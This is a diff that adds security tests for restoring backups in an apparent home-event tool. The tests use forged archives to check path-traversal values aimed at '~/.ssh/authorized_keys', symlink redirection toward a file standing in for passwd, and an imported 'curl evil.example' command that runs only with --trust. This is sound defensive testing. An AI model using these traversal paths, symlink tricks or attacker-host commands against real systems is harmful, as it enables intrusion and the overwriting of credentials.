@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import io
 import json
 import os
+import shutil
 import stat
 import zipfile
 from contextlib import suppress
@@ -109,6 +111,123 @@ def test_a_backup_is_never_overwritten(config: Path, tmp_path: Path, capsys: pyt
     assert main(["--config", str(config), "backup", str(tmp_path / "b.zip")]) == 2
     assert "choose another name" in capsys.readouterr().err
     assert (tmp_path / "b.zip").read_text() == "mine"
+
+
+# A backup may come from anybody.
+
+
+def forged(path: Path, config: str, **more: str) -> Path:
+    files = {"config/majordome.toml": config, "config/guests.toml": GUEST_LIST, **more}
+    with zipfile.ZipFile(path, "w") as archive:
+        archive.writestr(LABEL, label(**dict.fromkeys(files, 0.0)))
+        for name, text in files.items():
+            archive.writestr(name, text)
+    return path
+
+
+GUEST_LIST = "".join(f'[[guests]]\nname = "Guest {n}"\n' for n in range(10))
+
+
+@pytest.mark.parametrize(
+    ("settings", "what"),
+    [
+        ('[evening]\nguests = "{outside}/authorized_keys"', "guest list"),
+        ('[evening]\nguests = "../outside/authorized_keys"', "guest list"),
+        ('[journal]\nfolder = "{outside}"', "journals"),
+        ('[sound]\npack = "{outside}"', "sounds"),
+        ('[evening]\nguests = "~/.ssh/authorized_keys"', "guest list"),
+    ],
+)
+def test_a_backup_does_not_choose_where_it_is_unpacked(
+    settings: str, what: str, config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    path = forged(tmp_path / "b.zip", settings.format(outside=outside))
+    before = files(tmp_path)
+    assert restore(config, path) == 2
+    told = capsys.readouterr().err
+    assert what in told
+    assert "nothing was restored" in told
+    assert files(tmp_path) == before
+
+
+def test_a_place_that_this_box_has_already_is_no_choice_of_the_backups(config: Path, tmp_path: Path) -> None:
+    elsewhere = tmp_path / "elsewhere" / "guests.toml"
+    own = config.read_text().replace("guests.toml", str(elsewhere))
+    assert own != config.read_text()
+    config.write_text(own)
+    path = forged(tmp_path / "b.zip", own)
+    assert restore(config, path) == 0
+    assert elsewhere.read_text() == GUEST_LIST
+
+
+def test_settings_that_cannot_be_read_are_told_before_anything_is_unpacked(
+    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    for wrong in (
+        "[evening]\nlang = 3",
+        "[nonsense]\n",
+        "= broken",
+        '[evening]\nguests = "guests.toml"\ngame = "chess"',
+    ):
+        path = forged(tmp_path / "b.zip", wrong)
+        before = files(tmp_path / "house")
+        assert restore(config, path) == 2, wrong
+        assert files(tmp_path / "house") == before
+        assert capsys.readouterr().err.startswith("majordome: ")
+        path.unlink()
+
+
+def test_a_command_in_a_backup_is_not_taken_over_unasked(
+    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    path = forged(tmp_path / "b.zip", '[box]\npower_off = "curl evil.example"\n')
+    before = files(tmp_path / "house")
+    assert restore(config, path) == 2
+    told = capsys.readouterr().err
+    assert "curl evil.example" in told
+    assert "--trust" in told
+    assert files(tmp_path / "house") == before
+    assert main(["--config", str(config), "--lang", "en", "restore", str(path), "--trust"]) == 0
+    assert read_settings(config).box.power_off == "curl evil.example"
+    assert restore(config, path) == 0  # it is this box's own by now
+
+
+@pytest.mark.parametrize(("said", "code"), [("y\n", 0), ("oui\n", 0), ("n\n", 2), ("\n", 2), ("", 2)])
+def test_somebody_at_a_terminal_is_asked_about_the_command(
+    config: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, said: str, code: int
+) -> None:
+    class Terminal(io.StringIO):
+        def isatty(self) -> bool:
+            return True
+
+    path = forged(tmp_path / "b.zip", '[box]\npower_off = "halt -p"\n')
+    out = Terminal()
+    monkeypatch.setattr("sys.stdin", Terminal(said))
+    monkeypatch.setattr("sys.stdout", out)
+    assert restore(config, path) == code
+    assert "halt -p" in out.getvalue()
+
+
+def test_a_link_among_the_evenings_does_not_lead_a_restore_away(config: Path, tmp_path: Path) -> None:
+    """Whoever owns the folder of evenings shall not make root write elsewhere."""
+    trunk = backup(config, tmp_path / "b.zip")
+    victim = tmp_path / "passwd"
+    victim.write_text("root")
+    journal = config.parent / "evenings" / "evening-1.journal"
+    journal.unlink()
+    journal.symlink_to(victim)
+    assert restore(config, trunk) == 0
+    assert victim.read_text() == "root"
+    assert not journal.is_symlink()
+    (voices,) = {path.parent for path in config.parent.rglob("*.ogg")}
+    shutil.move(voices, tmp_path / "aside")
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    voices.symlink_to(outside)
+    assert restore(config, trunk) == 2
+    assert list(outside.iterdir()) == []
 
 
 def label(**times: float) -> str:
